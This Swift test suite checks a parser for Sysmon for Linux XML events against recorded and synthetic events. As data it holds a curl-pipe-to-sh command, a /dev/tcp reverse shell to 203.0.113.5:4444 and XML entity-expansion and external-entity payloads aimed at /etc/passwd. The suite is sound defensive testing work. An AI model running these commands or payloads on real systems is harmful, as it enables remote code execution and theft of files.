import Foundation
import Testing
@testable import Parse

/// Sysmon for Linux events as SysmonForLinux's outputxml.cpp writes them (pugixml, one line).
@Suite struct SysmonXMLTests {
    /// `Tests/Fixtures/sysmon`.
    static let fixtures = URL(fileURLWithPath: #filePath).deletingLastPathComponent()
        .deletingLastPathComponent().appendingPathComponent("Fixtures/sysmon")

    /// A fixture's bytes as `MESSAGE` holds them: the file less its final newline.
    static func fixture(_ name: String) throws -> [UInt8] {
        var bytes = Array(try Data(contentsOf: fixtures.appendingPathComponent(name)))
        while bytes.last == UInt8(ascii: "\n") { bytes.removeLast() }
        return bytes
    }

    /// An event with this ID and these `<Data>` elements, already escaped, in Sysmon's framing.
    static func event(_ eventID: String, _ data: String, computer: String = "host1") -> String {
        "<Event><System><Provider Name=\"Linux-Sysmon\" Guid=\"{ff032593-a8d3-4f13-b0d6-01fc615a0f97}\"/>"
            + "<EventID>\(eventID)</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode>"
            + "<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime=\"2026-11-26T10:00:00.123456000Z\"/>"
            + "<EventRecordID>42</EventRecordID><Correlation/><Execution ProcessID=\"1234\" ThreadID=\"1234\"/>"
            + "<Channel>Linux-Sysmon/Operational</Channel><Computer>\(computer)</Computer><Security UserId=\"0\"/>"
            + "</System><EventData>\(data)</EventData></Event>"
    }

    /// The record's fields as text (invalid UTF-8 repaired), for comparisons.
    static func text(_ record: SysmonRecord?) -> [String] {
        (record?.fields ?? []).map { "\($0.name)=\(String(decoding: $0.value, as: UTF8.self))" }
    }

    /// Field names per event ID, as in SysmonCommon's manifest.xml (schema 4.81).
    static let manifestNames: [Int: [String]] = [
        1: ["RuleName", "UtcTime", "ProcessGuid", "ProcessId", "Image", "FileVersion", "Description", "Product",
            "Company", "OriginalFileName", "CommandLine", "CurrentDirectory", "User", "LogonGuid", "LogonId",
            "TerminalSessionId", "IntegrityLevel", "Hashes", "ParentProcessGuid", "ParentProcessId", "ParentImage",
            "ParentCommandLine", "ParentUser"],
        3: ["RuleName", "UtcTime", "ProcessGuid", "ProcessId", "Image", "User", "Protocol", "Initiated",
            "SourceIsIpv6", "SourceIp", "SourceHostname", "SourcePort", "SourcePortName", "DestinationIsIpv6",
            "DestinationIp", "DestinationHostname", "DestinationPort", "DestinationPortName"],
        11: ["RuleName", "UtcTime", "ProcessGuid", "ProcessId", "Image", "TargetFilename", "CreationUtcTime", "User"],
    ]

    static let fixtureNames = [
        "authorized-keys.xml", "chmod-setuid-bash.xml", "chmod-setuid.xml", "crontab-e.xml", "crontab-file.xml",
        "curl-pipe-sh-bash.xml", "curl-pipe-sh-curl.xml", "curl-pipe-sh.xml", "dev-tcp-connect.xml",
        "dev-tcp-reverse-shell.xml", "insmod.xml", "useradd.xml",
    ]

    @Test(arguments: fixtureNames) func fixtureHasTheManifestFields(name: String) throws {
        let record = try #require(SysmonXML.parse(try Self.fixture(name)))
        let names = try #require(Self.manifestNames[record.eventID])
        #expect(record.fields.map(\.name) == ["EventID"] + names + ["Computer"])
        #expect(record.value(of: "Computer") == Array("web01".utf8))
    }

    @Test func processCreation() throws {
        let record = try #require(SysmonXML.parse(try Self.fixture("curl-pipe-sh.xml")))
        #expect(record.eventID == 1)
        #expect(record.category == "process_creation")
        #expect(record.fields.first.map { $0.name } == "EventID")
        #expect(record.value(of: "EventID") == Array("1".utf8))
        #expect(record.value(of: "Image") == Array("/usr/bin/dash".utf8))
        #expect(record.value(of: "CommandLine") == Array("sh".utf8))
        #expect(record.value(of: "ParentImage") == Array("/usr/bin/bash".utf8))
        #expect(record.value(of: "ParentCommandLine") == Array("bash -c curl -s http://203.0.113.5/x.sh | sh".utf8))
    }

    @Test func networkConnection() throws {
        let record = try #require(SysmonXML.parse(try Self.fixture("dev-tcp-connect.xml")))
        #expect(record.eventID == 3)
        #expect(record.category == "network_connection")
        #expect(record.value(of: "Image") == Array("/usr/bin/bash".utf8))
        #expect(record.value(of: "DestinationIp") == Array("203.0.113.5".utf8))
        #expect(record.value(of: "DestinationPort") == Array("4444".utf8))
        #expect(record.value(of: "Initiated") == Array("true".utf8))
    }

    @Test func fileCreation() throws {
        let record = try #require(SysmonXML.parse(try Self.fixture("authorized-keys.xml")))
        #expect(record.eventID == 11)
        #expect(record.category == "file_event")
        #expect(record.value(of: "TargetFilename") == Array("/root/.ssh/authorized_keys".utf8))
    }

    @Test func processTerminationAndFileDelete() {
        let terminated = SysmonXML.parse(Array(Self.event("5", "<Data Name=\"RuleName\">-</Data>"
            + "<Data Name=\"UtcTime\">2021-12-28 22:21:41.761</Data><Data Name=\"ProcessGuid\">{277d2fec-8df5-61cb-31f9-ed3635560000}</Data>"
            + "<Data Name=\"ProcessId\">37868</Data><Data Name=\"Image\">/usr/bin/dircolors</Data><Data Name=\"User\">root</Data>").utf8))
        #expect(terminated?.category == "process_termination")
        #expect(Self.text(terminated) == [
            "EventID=5", "RuleName=-", "UtcTime=2021-12-28 22:21:41.761", "ProcessGuid={277d2fec-8df5-61cb-31f9-ed3635560000}",
            "ProcessId=37868", "Image=/usr/bin/dircolors", "User=root", "Computer=host1",
        ])
        let deleted = SysmonXML.parse(Array(Self.event("23", "<Data Name=\"RuleName\">-</Data>"
            + "<Data Name=\"User\">root</Data><Data Name=\"Image\">/usr/bin/rm</Data>"
            + "<Data Name=\"TargetFilename\">/var/log/auth.log</Data><Data Name=\"Hashes\">-</Data>"
            + "<Data Name=\"IsExecutable\">-</Data><Data Name=\"Archived\">-</Data>").utf8))
        #expect(deleted?.category == "file_delete")
        #expect(deleted?.value(of: "TargetFilename") == Array("/var/log/auth.log".utf8))
    }

    @Test func categories() {
        #expect(SysmonRecord.category(ofEventID: 4) == "sysmon_status")
        #expect(SysmonRecord.category(ofEventID: 16) == "sysmon_status")
        #expect(SysmonRecord.category(ofEventID: 255) == "sysmon_error")
        #expect(SysmonRecord.category(ofEventID: 2) == nil)
        #expect(SysmonRecord.category(ofEventID: 0) == nil)
        #expect(SysmonXML.parse(Array(Self.event("7", "").utf8))?.category == nil)
    }

    @Test func escapedCharactersAreDecoded() throws {
        let record = try #require(SysmonXML.parse(Array(Self.event("1",
            "<Data Name=\"CommandLine\">bash -i &gt;&amp; /dev/tcp/203.0.113.5/4444 0&gt;&amp;1 &lt;x&gt; \"q\" 'a' &quot;&apos;&#65;&#x42;</Data>"
            + "<Data Name=\"CurrentDirectory\">/home/zoë/日本 🐚</Data>",
            computer: "h&amp;st").utf8)))
        #expect(Self.text(record) == [
            "EventID=1", "CommandLine=bash -i >& /dev/tcp/203.0.113.5/4444 0>&1 <x> \"q\" 'a' \"'AB",
            "CurrentDirectory=/home/zoë/日本 🐚", "Computer=h&st",
        ])
    }

    @Test func emptyData() {
        let record = SysmonXML.parse(Array(Self.event("1",
            "<Data Name=\"RuleName\"/><Data Name=\"Image\"></Data><Data Name=\"User\">root</Data><Data>unnamed</Data>").utf8))
        #expect(record?.fields.map(\.name) == ["EventID", "RuleName", "Image", "User", "Computer"])
        #expect(record?.value(of: "RuleName") == [])
        #expect(record?.value(of: "Image") == [])
    }

    @Test(arguments: [
        "", " ", "hello", "Started Session 3 of user root.", "<", "<Event>", "<Event/>", "{\"EventID\": 1}",
        "<Event><System><EventID>1</EventID></System>",
        "<Record><System><EventID>1</EventID></System></Record>",
        "<Event><System></System><EventData></EventData></Event>",
        "<Event><System><EventID>one</EventID></System></Event>",
        "<Event><System><EventID>-1</EventID></System></Event>",
        "<Event><System><EventID> 1</EventID></System></Event>",
        "<Event><System><EventID>1234567890</EventID></System></Event>",
        "<Event><System><EventID>1</EventID><EventID>3</EventID></System></Event>",
        "<Event><System><EventID>1<b/></EventID></System></Event>",
        "<Event><System><EventID>1</EventID></System><EventData><Data Name=\"Image\">/x<b>y</b></Data></EventData></Event>",
        "<Event><System><EventID>1</EventID></System><a><b><c><d/></c></b></a></Event>",
        "<Event><System><EventID>1</EventID></System></Event><Event/>",
        "<Event><System><EventID>1</EventID></System></Event>junk",
        "<Event><System><EventID>1</EventID></System><EventData><Data Name=\"x\">&bogus;</Data></EventData></Event>",
        "<Event><System><EventID>1</EventID></System><EventData><Data Name=\"x\">a & b</Data></EventData></Event>",
        "<Event><System><EventID>1</EventID></System><EventData><Data Name=\"x\">&#xD800;</Data></EventData></Event>",
    ])
    func notASysmonEvent(_ message: String) {
        #expect(SysmonXML.parse(Array(message.utf8)) == nil)
    }

    @Test func minimalEvent() {
        #expect(Self.text(SysmonXML.parse(Array("<Event><System><EventID>255</EventID></System></Event>".utf8)))
            == ["EventID=255"])
        #expect(SysmonXML.parse(Array("<Event><System><EventID>5</EventID></System></Event> \n".utf8))?.eventID == 5)
    }

    @Test func truncatedXMLIsRefused() throws {
        let bytes = try Self.fixture("dev-tcp-reverse-shell.xml")
        #expect(SysmonXML.parse(bytes) != nil)
        for length in 0..<bytes.count {
            #expect(SysmonXML.parse(bytes[..<length]) == nil, "prefix of \(length) bytes")
        }
    }

    @Test(arguments: [
        "<!DOCTYPE Event [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">]>"
            + "<Event><System><EventID>1</EventID></System><EventData><Data Name=\"x\">&b;</Data></EventData></Event>",
        "<!DOCTYPE Event [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
            + "<Event><System><EventID>1</EventID></System><EventData><Data Name=\"x\">&x;</Data></EventData></Event>",
        "<!DOCTYPE Event SYSTEM \"http://203.0.113.5/evil.dtd\"><Event><System><EventID>1</EventID></System></Event>",
        "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><Event><System><EventID>1</EventID></System></Event>",
        "<Event><!-- hidden --><System><EventID>1</EventID></System></Event>",
        "<Event><System><EventID>1</EventID></System><EventData><Data Name=\"x\"><![CDATA[a]]></Data></EventData></Event>",
    ])
    func declarationsAreRefused(_ message: String) {
        #expect(SysmonXML.parse(Array(message.utf8)) == nil)
    }

    @Test func hugeInputIsRefused() {
        let frame = Self.event("1", "<Data Name=\"CommandLine\"></Data>").utf8.count
        let fits = Self.event("1", "<Data Name=\"CommandLine\">" + String(repeating: "A", count: SysmonXML.maximumSize - frame) + "</Data>")
        #expect(fits.utf8.count == SysmonXML.maximumSize)
        #expect(SysmonXML.parse(Array(fits.utf8))?.value(of: "CommandLine")?.count == SysmonXML.maximumSize - frame)
        let tooBig = Self.event("1", "<Data Name=\"CommandLine\">" + String(repeating: "A", count: SysmonXML.maximumSize) + "</Data>")
        #expect(SysmonXML.parse(Array(tooBig.utf8)) == nil)
        #expect(SysmonXML.parse([UInt8](repeating: UInt8(ascii: "<"), count: 10 * SysmonXML.maximumSize)) == nil)
    }

    /// Bytes a conforming parser rejects come back as they were, so no one can hide an event by
    /// putting such a byte in a command line or file name.
    @Test(arguments: [
        [0xFF], [0xC3], [0xC3, 0x28], [0xED, 0xA0, 0x80], [0xC0, 0xAF], [0xF4, 0x90, 0x80, 0x80], [0xF0, 0x9F, 0x90],
        [0xEF, 0xBF, 0xBE], [0x01], [0x1B, 0x5B, 0x32, 0x4A], [0x7F], [0x0D], [0x0D, 0x0A], [0x09], [0x00],
        [0xF4, 0x8F, 0xBD, 0x81], [0xF4, 0x8F, 0xBF, 0xBF], [0xF3, 0xB0, 0x80, 0x80],
    ] as [[UInt8]])
    func rawBytesAreKept(_ bytes: [UInt8]) throws {
        let message = Array("<Event><System><EventID>1</EventID></System><EventData><Data Name=\"CommandLine\">curl ".utf8)
            + bytes + Array(" | sh</Data></EventData></Event>".utf8)
        let record = try #require(SysmonXML.parse(message))
        #expect(record.value(of: "CommandLine") == Array("curl ".utf8) + bytes + Array(" | sh".utf8))
    }

    @Test func controlCharacterReferencesAreKept() throws {
        // pugixml writes a control character below 0x20 (not tab, LF or CR) as &#NN;, which XML 1.0 forbids.
        let record = try #require(SysmonXML.parse(Array(Self.event("1",
            "<Data Name=\"CommandLine\">a&#01;b&#27;[0m&#31;&#x7;&#13;&#10;c</Data><Data Name=\"Image\">&#1114049;</Data>").utf8)))
        #expect(record.value(of: "CommandLine") == [0x61, 0x01, 0x62, 0x1B, 0x5B, 0x30, 0x6D, 0x1F, 0x07, 0x0D, 0x0A, 0x63])
        #expect(record.value(of: "Image") == [0xF4, 0x8F, 0xBF, 0x81])
    }

    @Test func anyByteCollection() throws {
        let text = Self.event("3", "<Data Name=\"DestinationPort\">4444</Data>")
        #expect(SysmonXML.parse(text.utf8)?.value(of: "DestinationPort") == Array("4444".utf8))
        let padded = [UInt8](repeating: 0, count: 3) + Array(text.utf8)
        #expect(SysmonXML.parse(padded[3...])?.eventID == 3)
    }

    @Test func survivesRandomMutations() throws {
        var generator = RobustnessTests.SplitMix(state: 0x5157_4D4F_4E)
        let seeds = try Self.fixtureNames.map { try Self.fixture($0) }
        for round in 0..<3000 {
            var bytes = seeds[round % seeds.count]
            for _ in 0..<Int.random(in: 1...8, using: &generator) {
                let index = Int.random(in: 0..<bytes.count, using: &generator)
                switch Int.random(in: 0..<3, using: &generator) {
                case 0: bytes[index] = UInt8.random(in: 0...255, using: &generator)
                case 1: bytes.remove(at: index)
                default: bytes.insert(Array("<>&;\"/=!?#x".utf8).randomElement(using: &generator) ?? 0, at: index)
                }
            }
            if let record = SysmonXML.parse(bytes) {
                #expect(record.fields.first?.name == "EventID")
            }
        }
    }
}
